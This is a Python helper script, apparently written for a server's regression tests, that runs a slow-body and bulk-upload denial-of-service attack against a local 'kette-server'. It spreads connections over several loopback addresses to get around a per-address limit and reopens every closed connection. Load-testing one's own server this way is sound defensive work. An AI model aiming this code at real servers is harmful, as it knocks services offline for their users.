#!/usr/bin/env python3
"""The issue-12 attack on a kette-server, for LongAttackTests: slow bodies and large bodies, no token.

  attacker.py --port P --slow 512 --bulk 64 --seconds 130 --stats FILE

--slow N connections (spread over 127.0.0.2-127.0.0.9, so the per-address limit of 64 does not
stop them) each send a push's complete headers announcing 60 MiB, then one body byte every 5 s;
--bulk N connections (from 127.0.0.10) each send such a push's headers and 60 MiB as fast as the
server takes them. Every connection the server closes is opened again at once, until --seconds
have passed. The counts (connections made, answers read, bytes the kernel accepted) are written
to the stats file as JSON at the end.
"""
import argparse
import asyncio
import json

HEAD = (b"POST /v1/changesets HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
        b"Content-Length: 62914560\r\n\r\n")
stats = {"slowConnections": 0, "bulkConnections": 0, "answers": 0, "bulkBytesSent": 0, "connectFailures": 0}


async def connection(source, body, stop):
    """One connection from `source`: the head, then `body(writer)`; returns when it is closed."""
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", args.port, local_addr=(source, 0))
    except OSError:
        stats["connectFailures"] += 1
        await asyncio.sleep(0.2)
        return
    answer = asyncio.ensure_future(reader.read(12))
    try:
        writer.write(HEAD)
        await writer.drain()
        await body(writer, answer, stop)
    except (OSError, ConnectionError):
        pass
    finally:
        if answer.done() and not answer.cancelled() and answer.exception() is None and answer.result().startswith(b"HTTP/1.1"):
            stats["answers"] += 1
        answer.cancel()
        writer.close()


async def trickle(writer, answer, stop):
    while not stop.is_set() and not answer.done():
        writer.write(b"{")
        await writer.drain()
        try:
            await asyncio.wait_for(asyncio.shield(answer), timeout=5)
        except asyncio.TimeoutError:
            pass


async def flood(writer, answer, stop):
    chunk = b"x" * (1 << 20)
    for _ in range(60):
        if stop.is_set() or answer.done():
            return
        writer.write(chunk)
        await writer.drain()
        stats["bulkBytesSent"] += len(chunk)


async def attacker(source, body, kind, stop):
    while not stop.is_set():
        stats[kind] += 1
        await connection(source, body, stop)


async def main():
    stop = asyncio.Event()
    tasks = [asyncio.ensure_future(attacker("127.0.0.%d" % (2 + i % 8), trickle, "slowConnections", stop)) for i in range(args.slow)]
    tasks += [asyncio.ensure_future(attacker("127.0.0.10", flood, "bulkConnections", stop)) for _ in range(args.bulk)]
    await asyncio.sleep(args.seconds)
    stop.set()
    await asyncio.wait(tasks, timeout=10)
    with open(args.stats, "w") as out:
        json.dump(stats, out)


parser = argparse.ArgumentParser()
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--slow", type=int, default=512)
parser.add_argument("--bulk", type=int, default=64)
parser.add_argument("--seconds", type=float, default=130)
parser.add_argument("--stats", required=True)
args = parser.parse_args()
asyncio.run(main())
